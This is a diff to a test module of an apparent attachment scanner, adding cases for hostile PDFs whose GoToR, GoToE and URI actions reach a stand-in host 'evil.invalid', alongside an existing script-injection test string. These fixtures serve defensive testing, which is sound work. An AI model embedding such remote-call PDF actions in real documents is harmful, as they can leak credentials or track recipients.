@@ -16,7 +16,7 @@ from PIL import Image
 from messaging.attachments.signature import EICAR
 from messaging.attachments.verdict import Refusal
 from messaging.vocabulary import AttachmentKind
-from tests.messaging.attachments import documents, films, heif, pictures
+from tests.messaging.attachments import documents, films, heif, pictures, traces
 from tests.messaging.attachments.heif import box
 
 SCRIPT = b"<script>document.title='ran';new Image().src='https://example.invalid/'</script>"
@@ -212,6 +212,22 @@ HOSTILE = (
             partial(documents.pdf, documents.launches), Refusal.SCRIPTED),
     Hostile("PDF that sends itself", "submit.pdf", partial(documents.pdf, documents.submits),
             Refusal.SCRIPTED),
+    Hostile("PDF that opens a file of another machine", "share.pdf",
+            partial(documents.pdf, traces.on_opening("<< /S /GoToR /F (//evil.invalid/a) >>")),
+            Refusal.SCRIPTED),
+    Hostile("PDF that calls another machine on turning a page", "turn.pdf",
+            partial(documents.pdf, traces.on_turning("<< /S /URI /URI (file://evil.invalid/) >>")),
+            Refusal.SCRIPTED),
+    Hostile("PDF with a link into another one enclosed in a file", "embedded.pdf",
+            partial(documents.pdf, traces.link("<< /S /GoToE /F (//evil.invalid/a) >>")),
+            Refusal.SCRIPTED),
+    Hostile("PDF that plays a film of another machine", "movie.pdf",
+            partial(documents.pdf, traces.link("<< /S /Movie >>")), Refusal.SCRIPTED),
+    Hostile("PDF of which a page is on another machine", "away.pdf",
+            partial(documents.pdf, traces.borrows), Refusal.SCRIPTED),
+    Hostile("PDF with a link to a share", "link-share.pdf",
+            partial(documents.pdf, traces.link("<< /S /URI /URI (//example.invalid/a) >>")),
+            DOCUMENT),
     Hostile("PDF with a programme in it", "enclosing.pdf",
             partial(documents.pdf, documents.encloses), Refusal.ENCLOSING),
     Hostile("PDF form of XFA", "xfa.pdf", partial(documents.pdf, documents.is_xfa), Refusal.FORM),
